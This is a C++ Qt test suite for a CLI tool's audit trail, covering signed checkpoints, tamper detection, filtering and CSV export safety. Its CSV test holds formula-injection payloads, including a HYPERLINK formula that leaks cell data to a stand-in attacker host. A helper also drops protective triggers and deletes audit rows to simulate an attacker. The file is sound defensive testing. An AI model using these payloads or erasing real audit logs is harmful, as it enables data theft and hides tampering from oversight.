// Audit checkpoints through patchwright-cli as an admin and an auditor use them: every command that writes
// signs the trail before it exits, `audit verify` reports a cut trail, `audit checkpoint export` gives an
// auditor a copy that later finds what the database alone cannot, and a damaged or foreign file is refused.
// The attacker holds the database passphrase and edits the file with the engine's own driver.
#include "../support/CliRunner.h"

#include "storage/AuditLog.h"
#include "storage/Database.h"
#include "storage/SqlTime.h"

#include <QCryptographicHash>
#include <QDir>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QSqlQuery>
#include <QTemporaryDir>
#include <QTest>

#include <algorithm>

using namespace Qt::StringLiterals;

class TestAuditCli : public QObject
{
    Q_OBJECT

private slots:
    void init();
    void everyCommandThatWritesSignsTheTrail();
    void aCutTrailFailsVerifyAndLaterCommands();
    void aKeptCopyFindsWhatTheDatabaseCannot();
    void damagedOrForeignCheckpointFilesAreRefused();
    void listFiltersByPeriodActorActionAndSubject();
    void badPeriodIsAUsageError();
    void csvNeutralisesHostileCellsAndJsonKeepsThem();
    void exportToAFileIsRecordedWithItsSha256();
    void anAuditorListsAndExportsAndWritesNothingElse();

private:
    using Run = CliRunner::Run;
    Run cli(const QStringList &arguments, const QString &dataHome = {});
    Run addAsset(const QString &name);
    bool tamper(const QStringList &statements);
    QString anchorFolder() const;
    // The events `audit list` prints as JSON with these extra arguments.
    QJsonArray listed(const QStringList &arguments);
    // Appends events straight through the engine, as any console of this database would.
    bool appendEvents(const QList<QStringList> &actorActionSubjectDetails);

    std::unique_ptr<QTemporaryDir> m_dir;
    const QString m_passphrase = u"correct horse battery staple"_s;
};

void TestAuditCli::init()
{
    m_dir = std::make_unique<QTemporaryDir>();
    QVERIFY(m_dir->isValid());
}

TestAuditCli::Run TestAuditCli::cli(const QStringList &arguments, const QString &dataHome)
{
    CliRunner runner;
    runner.setEnvironment(u"PATCHWRIGHT_DB_PASSPHRASE"_s, m_passphrase);
    // The console's own copy of its newest checkpoint lives in the data folder: one per test.
    runner.setEnvironment(u"XDG_DATA_HOME"_s, dataHome.isEmpty() ? m_dir->filePath(u"data"_s) : dataHome);
    return runner.run(QStringList{u"--db"_s, m_dir->filePath(u"audit.db"_s)} + arguments);
}

TestAuditCli::Run TestAuditCli::addAsset(const QString &name)
{
    return cli(
        {u"asset"_s, u"add"_s, name, u"--transport"_s, u"ssh"_s, u"--address"_s, name + u".example.org"_s});
}

QString TestAuditCli::anchorFolder() const
{
    return m_dir->filePath(u"data/Patchwright/Patchwright/audit-anchors"_s);
}

bool TestAuditCli::tamper(const QStringList &statements)
{
    auto db = Database::open(DatabaseConfig::encryptedFile(m_dir->filePath(u"audit.db"_s), m_passphrase,
                                                           DatabaseConfig::KeyKind::Passphrase));
    if (!db)
        return false;
    QSqlQuery query(db.value()->connection());
    for (const char *trigger : {"audit_events_no_delete", "audit_checkpoints_no_delete"}) {
        if (!query.exec(u"DROP TRIGGER IF EXISTS "_s + QLatin1String(trigger)))
            return false;
    }
    for (const QString &statement : statements) {
        if (!query.exec(statement))
            return false;
    }
    return true;
}

void TestAuditCli::everyCommandThatWritesSignsTheTrail()
{
    QCOMPARE(addAsset(u"web1"_s).exitCode, 0);
    // This machine's asset, web1, the registration of the passphrase's key: 3 events, one checkpoint.
    Run verified = cli({u"audit"_s, u"verify"_s});
    QCOMPARE(verified.exitCode, 0);
    QVERIFY2(verified.out.contains("intact: 3 events verified"), verified.out.constData());
    QVERIFY2(verified.out.contains("1 signed checkpoint(s); the newest, #1 ("), verified.out.constData());
    QVERIFY2(verified.out.contains("covers event #3."), verified.out.constData());
    QVERIFY2(verified.out.contains("derived from the database passphrase"), verified.out.constData());
    QVERIFY2(verified.out.contains("this console's copy"), verified.out.constData());

    QCOMPARE(cli({u"asset"_s, u"list"_s}).exitCode, 0); // reads only: nothing to sign
    QCOMPARE(addAsset(u"web2"_s).exitCode, 0);
    verified = cli({u"audit"_s, u"verify"_s});
    QCOMPARE(verified.exitCode, 0);
    QVERIFY2(verified.out.contains("2 signed checkpoint(s); the newest, #2 ("), verified.out.constData());
    QVERIFY2(verified.out.contains("covers event #4."), verified.out.constData());

    const QStringList kept = QDir(anchorFolder()).entryList({u"*.json"_s}, QDir::Files);
    QCOMPARE(kept.size(), 1);
    QFile copy(QDir(anchorFolder()).filePath(kept.constFirst()));
    QVERIFY(copy.open(QIODevice::ReadOnly));
    QCOMPARE(QJsonDocument::fromJson(copy.readAll()).object().value(u"checkpoint"_s).toInt(), 2);
    QCOMPARE(copy.permissions() & (QFile::ReadOther | QFile::WriteOther | QFile::WriteGroup),
             QFile::Permissions());
}

void TestAuditCli::aCutTrailFailsVerifyAndLaterCommands()
{
    QCOMPARE(addAsset(u"web1"_s).exitCode, 0);
    QCOMPARE(addAsset(u"web2"_s).exitCode, 0); // checkpoint #2 covers event 4
    QVERIFY(tamper({u"DELETE FROM audit_events WHERE id >= 4"_s}));
    const Run verify = cli({u"audit"_s, u"verify"_s});
    QCOMPARE(verify.exitCode, 1);
    QVERIFY2(verify.err.contains("hash chain holds (3 events), but its checkpoints do not"),
             verify.err.constData());
    QVERIFY2(verify.err.contains("events after #3 are missing: checkpoint #2 (signed "),
             verify.err.constData());
    QVERIFY2(verify.err.contains("covers the trail up to event #4"), verify.err.constData());

    // The next change is made and audited, but nothing vouches for a cut trail: the command says so.
    const Run after = addAsset(u"web3"_s);
    QCOMPARE(after.exitCode, 1);
    QVERIFY2(after.err.contains("No audit checkpoint was written"), after.err.constData());
    QVERIFY2(after.err.contains("event 4"), after.err.constData());
}

void TestAuditCli::aKeptCopyFindsWhatTheDatabaseCannot()
{
    QCOMPARE(addAsset(u"web1"_s).exitCode, 0); // #1 covers event 3
    QCOMPARE(addAsset(u"web2"_s).exitCode, 0); // #2 covers event 4
    const QString exported = m_dir->filePath(u"auditor/cp.json"_s);
    QVERIFY(QDir().mkpath(m_dir->filePath(u"auditor"_s)));
    const Run exportRun = cli({u"audit"_s, u"checkpoint"_s, u"export"_s, exported});
    QCOMPARE(exportRun.exitCode, 0);
    QVERIFY2(exportRun.out.contains("Checkpoint #2 (event #4, 4 events"), exportRun.out.constData());
    // Cut event 4 and the checkpoint that covered it: what is left (#1 covering event 3) is consistent.
    QVERIFY(tamper(
        {u"DELETE FROM audit_checkpoints WHERE id >= 2"_s, u"DELETE FROM audit_events WHERE id >= 4"_s}));

    const QString elsewhere = m_dir->filePath(u"another-desktop"_s); // no copy of its own
    QCOMPARE(cli({u"audit"_s, u"verify"_s}, elsewhere).exitCode, 0); // the database alone cannot tell
    const Run withCopy = cli({u"audit"_s, u"verify"_s});
    QCOMPARE(withCopy.exitCode, 1);
    QVERIFY2(withCopy.err.contains("the checkpoint this console wrote on "), withCopy.err.constData());
    QVERIFY2(withCopy.err.contains("(#2) is missing from the database"), withCopy.err.constData());
    const Run withFile = cli({u"audit"_s, u"verify"_s, u"--checkpoint"_s, exported}, elsewhere);
    QCOMPARE(withFile.exitCode, 1);
    QVERIFY2(withFile.err.contains("events after #3 are missing: the checkpoint in "),
             withFile.err.constData());
}

void TestAuditCli::damagedOrForeignCheckpointFilesAreRefused()
{
    QCOMPARE(addAsset(u"web1"_s).exitCode, 0);
    const QString exported = m_dir->filePath(u"cp.json"_s);
    QCOMPARE(cli({u"audit"_s, u"checkpoint"_s, u"export"_s, exported}).exitCode, 0);
    QCOMPARE(cli({u"audit"_s, u"verify"_s, u"--checkpoint"_s, exported}).exitCode, 0);

    QFile file(exported);
    QVERIFY(file.open(QIODevice::ReadOnly));
    QByteArray json = file.readAll();
    file.close();
    const QString damaged = m_dir->filePath(u"damaged.json"_s);
    QFile out(damaged);
    QVERIFY(out.open(QIODevice::WriteOnly));
    out.write(QByteArray(json).replace("\"event\": 3", "\"event\": 2"));
    out.close();
    const Run altered = cli({u"audit"_s, u"verify"_s, u"--checkpoint"_s, damaged});
    QCOMPARE(altered.exitCode, 1);
    QVERIFY2(altered.err.contains("does not carry a valid signature: it was altered"),
             altered.err.constData());

    QVERIFY(out.open(QIODevice::WriteOnly | QIODevice::Truncate));
    out.write(QByteArray(json).replace("\"signer\"", "\"singer\""));
    out.close();
    const Run malformed = cli({u"audit"_s, u"verify"_s, u"--checkpoint"_s, damaged});
    QCOMPARE(malformed.exitCode, 1);
    QVERIFY2(malformed.err.contains("missing or malformed fields: signer"), malformed.err.constData());

    // Another database's checkpoint, signed with that database's own (passphrase-derived) key.
    CliRunner other;
    other.setEnvironment(u"PATCHWRIGHT_DB_PASSPHRASE"_s, m_passphrase);
    other.setEnvironment(u"XDG_DATA_HOME"_s, m_dir->filePath(u"data"_s));
    const QString foreign = m_dir->filePath(u"foreign.json"_s);
    QCOMPARE(other
                 .run({u"--db"_s, m_dir->filePath(u"other.db"_s), u"audit"_s, u"checkpoint"_s, u"export"_s,
                       foreign})
                 .exitCode,
             0);
    const Run mixedUp = cli({u"audit"_s, u"verify"_s, u"--checkpoint"_s, foreign});
    QCOMPARE(mixedUp.exitCode, 1);
    QVERIFY2(mixedUp.err.contains("belongs to another database"), mixedUp.err.constData());
}

QJsonArray TestAuditCli::listed(const QStringList &arguments)
{
    const Run run = cli(QStringList{u"audit"_s, u"list"_s, u"--format"_s, u"json"_s} + arguments);
    if (run.exitCode != 0)
        qWarning("audit list failed: %s", run.err.constData());
    return QJsonDocument::fromJson(run.out).array();
}

bool TestAuditCli::appendEvents(const QList<QStringList> &actorActionSubjectDetails)
{
    auto db = Database::open(DatabaseConfig::encryptedFile(m_dir->filePath(u"audit.db"_s), m_passphrase,
                                                           DatabaseConfig::KeyKind::Passphrase));
    if (!db)
        return false;
    AuditLog log(db.value()->connection());
    for (const QStringList &event : actorActionSubjectDetails) {
        if (!log.append(event.value(0), event.value(1), event.value(2), event.value(3)).ok())
            return false;
    }
    return true;
}

namespace {

QStringList valuesOf(const QJsonArray &events, const QString &key)
{
    QStringList values;
    for (const QJsonValue &event : events)
        values.append(event.toObject().value(key).toVariant().toString());
    return values;
}

// RFC 4180 records of `csv`: fields unquoted, "" unescaped.
QList<QStringList> csvRecords(const QString &csv)
{
    QList<QStringList> records;
    QStringList record;
    QString field;
    bool quoted = false;
    for (qsizetype i = 0; i < csv.size(); ++i) {
        const QChar c = csv.at(i);
        if (quoted) {
            if (c == u'"' && i + 1 < csv.size() && csv.at(i + 1) == u'"') {
                field += u'"';
                ++i;
            } else if (c == u'"') {
                quoted = false;
            } else {
                field += c;
            }
        } else if (c == u'"') {
            quoted = true;
        } else if (c == u',') {
            record.append(field);
            field.clear();
        } else if (c == u'\r' && i + 1 < csv.size() && csv.at(i + 1) == u'\n') {
            record.append(field);
            records.append(record);
            record.clear();
            field.clear();
            ++i;
        } else {
            field += c;
        }
    }
    return records;
}

} // namespace

void TestAuditCli::listFiltersByPeriodActorActionAndSubject()
{
    QCOMPARE(addAsset(u"web1"_s).exitCode, 0);
    QCOMPARE(addAsset(u"db2"_s).exitCode, 0);
    QVERIFY(appendEvents({{u"carol"_s, u"change.created"_s, u"CR-7 for Web1"_s, {}},
                          {u"dave"_s, u"change.approved"_s, u"CR-7 for Web1"_s, {}},
                          {u"dave"_s, u"changes.noted"_s, u"db2"_s, {}}}));
    const QJsonArray all = listed({});
    QVERIFY(all.size() >= 7); // this machine, two assets, the key, the three above

    QCOMPARE(valuesOf(listed({u"--action"_s, u"change."_s}), u"action"_s),
             (QStringList{u"change.approved"_s, u"change.created"_s}));
    QCOMPARE(valuesOf(listed({u"--action"_s, u"change.approved"_s}), u"actor"_s), QStringList{u"dave"_s});
    QCOMPARE(valuesOf(listed({u"--actor"_s, u"dave"_s}), u"action"_s),
             (QStringList{u"changes.noted"_s, u"change.approved"_s}));
    QCOMPARE(valuesOf(listed({u"--subject"_s, u"WEB1"_s, u"--action"_s, u"asset."_s}), u"subject"_s),
             QStringList{u"web1"_s});
    QCOMPARE(valuesOf(listed({u"--subject"_s, u"web1"_s}), u"subject"_s),
             (QStringList{u"CR-7 for Web1"_s, u"CR-7 for Web1"_s, u"web1"_s}));

    // The period: the events are all from today (UTC).
    const QDate today = QDateTime::currentDateTimeUtc().date();
    const QString day = today.toString(Qt::ISODate);
    QCOMPARE(listed({u"--from"_s, day, u"--to"_s, day}).size(), all.size());
    QCOMPARE(listed({u"--to"_s, today.addDays(-1).toString(Qt::ISODate)}).size(), 0);
    QCOMPARE(listed({u"--from"_s, today.addDays(1).toString(Qt::ISODate)}).size(), 0);
    // A time: --from an event's instant lists it and every event at or after it (several events can share a
    // millisecond); --to it, it and every event at or before it.
    const QString at = all.at(all.size() - 3).toObject().value(u"at"_s).toString();
    QStringList from;
    QStringList to;
    for (const QJsonValue &event : all) {
        const QString id = event.toObject().value(u"id"_s).toVariant().toString();
        (event.toObject().value(u"at"_s).toString() >= at ? from : to).append(id);
        if (event.toObject().value(u"at"_s).toString() == at)
            to.append(id);
    }
    std::sort(to.begin(), to.end(), [](const QString &a, const QString &b) { return a.toInt() > b.toInt(); });
    QVERIFY(!from.isEmpty() && from.size() < all.size());
    QCOMPARE(valuesOf(listed({u"--from"_s, at}), u"id"_s), from);
    QCOMPARE(valuesOf(listed({u"--to"_s, at}), u"id"_s), to);
}

void TestAuditCli::badPeriodIsAUsageError()
{
    QCOMPARE(addAsset(u"web1"_s).exitCode, 0);
    const Run bad = cli({u"audit"_s, u"list"_s, u"--from"_s, u"last tuesday"_s});
    QCOMPARE(bad.exitCode, 2);
    QVERIFY2(bad.err.contains("--from needs an ISO 8601 date or time"), bad.err.constData());
    const Run backwards =
        cli({u"audit"_s, u"list"_s, u"--from"_s, u"2026-11-02"_s, u"--to"_s, u"2026-11-01"_s});
    QCOMPARE(backwards.exitCode, 2);
    QVERIFY2(backwards.err.contains("--to must not be before --from"), backwards.err.constData());
}

void TestAuditCli::csvNeutralisesHostileCellsAndJsonKeepsThem()
{
    QCOMPARE(addAsset(u"web1"_s).exitCode, 0);
    const QStringList hostile{u"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"_s,
                              u"+1"_s,
                              u"-1"_s,
                              u"@SUM(A1:A9)"_s,
                              u"\tfoo"_s,
                              u"\rbar"_s};
    QList<QStringList> events;
    for (const QString &text : hostile)
        events.append({text, u"hostile.cell"_s, text, text});
    QVERIFY(appendEvents(events));

    const Run csv = cli({u"audit"_s, u"list"_s, u"--action"_s, u"hostile.cell"_s, u"--format"_s, u"csv"_s});
    QCOMPARE(csv.exitCode, 0);
    const QList<QStringList> records = csvRecords(QString::fromUtf8(csv.out));
    QCOMPARE(records.size(), 1 + hostile.size());
    QCOMPARE(records.constFirst(),
             (QStringList{u"id"_s, u"at"_s, u"actor"_s, u"action"_s, u"subject"_s, u"details"_s, u"hash"_s}));
    // Formula starters are quoted out; a carriage return is shown as a visible escape (no cell starts with
    // a raw one).
    const QStringList expected{u"'"_s + hostile.at(0), u"'+1"_s,    u"'-1"_s,
                               u"'@SUM(A1:A9)"_s,      u"'\tfoo"_s, u"\\x0Dbar"_s};
    for (qsizetype row = 1; row < records.size(); ++row) {
        const QString want = expected.at(hostile.size() - row); // newest first
        for (int column : {2, 4, 5}) {                          // actor, subject, details
            const QString cell = records.at(row).value(column);
            QCOMPARE(cell, want);
            QVERIFY2(!QStringLiteral("=+-@\t\r").contains(cell.at(0)), qPrintable(cell));
        }
    }

    // JSON keeps every value exactly (programs read it; nothing there runs as a formula).
    QCOMPARE(valuesOf(listed({u"--action"_s, u"hostile.cell"_s}), u"details"_s),
             QStringList(hostile.crbegin(), hostile.crend()));

    // The exported file is the same bytes.
    const QString path = m_dir->filePath(u"hostile.csv"_s);
    const Run exported = cli(
        {u"audit"_s, u"list"_s, u"--action"_s, u"hostile.cell"_s, u"--format"_s, u"csv"_s, u"--out"_s, path});
    QCOMPARE(exported.exitCode, 0);
    QFile file(path);
    QVERIFY(file.open(QIODevice::ReadOnly));
    QCOMPARE(file.readAll(), csv.out);
}

void TestAuditCli::exportToAFileIsRecordedWithItsSha256()
{
    QCOMPARE(addAsset(u"web1"_s).exitCode, 0);
    QCOMPARE(addAsset(u"web2"_s).exitCode, 0);
    const QString path = m_dir->filePath(u"assets.json"_s);
    const Run run =
        cli({u"audit"_s, u"list"_s, u"--action"_s, u"asset."_s, u"--format"_s, u"json"_s, u"--out"_s, path});
    QVERIFY2(run.exitCode == 0, run.err.constData());
    QFile file(path);
    QVERIFY(file.open(QIODevice::ReadOnly));
    const QByteArray bytes = file.readAll();
    const QJsonArray written = QJsonDocument::fromJson(bytes).array();
    QCOMPARE(valuesOf(written, u"subject"_s).size(), 3); // this machine, web1, web2
    QCOMPARE(valuesOf(written, u"action"_s), QStringList(3, u"asset.added"_s));
    const QByteArray sha256 = QCryptographicHash::hash(bytes, QCryptographicHash::Sha256).toHex();
    QVERIFY2(run.out.contains(sha256), run.out.constData());

    const QJsonArray recorded = listed({u"--action"_s, u"report.exported"_s});
    QCOMPARE(recorded.size(), 1);
    const QJsonObject event = recorded.first().toObject();
    QCOMPARE(event.value(u"subject"_s).toString(), u"assets.json"_s);
    QVERIFY2(event.value(u"details"_s).toString().contains(u"sha256 "_s + QString::fromLatin1(sha256)),
             qPrintable(event.value(u"details"_s).toString()));
    QVERIFY(event.value(u"details"_s).toString().contains(u"json, 3 event(s) (action asset.)"_s));
    QCOMPARE(cli({u"audit"_s, u"verify"_s}).exitCode, 0);
}

void TestAuditCli::anAuditorListsAndExportsAndWritesNothingElse()
{
    // Local mode: listing a user makes the one listing them an admin; then this OS account becomes an
    // auditor (another admin remains).
    QCOMPARE(addAsset(u"web1"_s).exitCode, 0);
    QCOMPARE(cli({u"user"_s, u"add"_s, u"boss"_s, u"--role"_s, u"admin"_s}).exitCode, 0);
    const QString me =
        listed({u"--action"_s, u"asset.added"_s}).first().toObject().value(u"actor"_s).toString();
    const Run demoted = cli({u"user"_s, u"add"_s, me, u"--role"_s, u"auditor"_s});
    QVERIFY2(demoted.exitCode == 0, demoted.err.constData());
    const Run whoami = cli({u"whoami"_s});
    QVERIFY2(whoami.out.contains("auditor"), whoami.out.constData());

    const int before = int(listed({}).size());
    const Run refused = addAsset(u"web2"_s);
    QVERIFY(refused.exitCode != 0);
    QCOMPARE(int(listed({}).size()), before); // refused before anything was written
    // user.added boss, user.added (me, as the first admin), user.role-changed (me, to auditor).
    QCOMPARE(listed({u"--actor"_s, me, u"--action"_s, u"user."_s}).size(), 3);

    const QString path = m_dir->filePath(u"auditor.csv"_s);
    const Run exported = cli({u"audit"_s, u"list"_s, u"--format"_s, u"csv"_s, u"--out"_s, path});
    QVERIFY2(exported.exitCode == 0, exported.err.constData());
    QVERIFY(QFile::exists(path));
    const QJsonArray after = listed({});
    QCOMPARE(int(after.size()), before + 1); // the export's own event, nothing else
    QCOMPARE(after.first().toObject().value(u"action"_s).toString(), u"report.exported"_s);
    QCOMPARE(after.first().toObject().value(u"actor"_s).toString(), me);
    QCOMPARE(cli({u"audit"_s, u"verify"_s}).exitCode, 0);
}

QTEST_GUILESS_MAIN(TestAuditCli)
#include "tst_auditcli.moc"
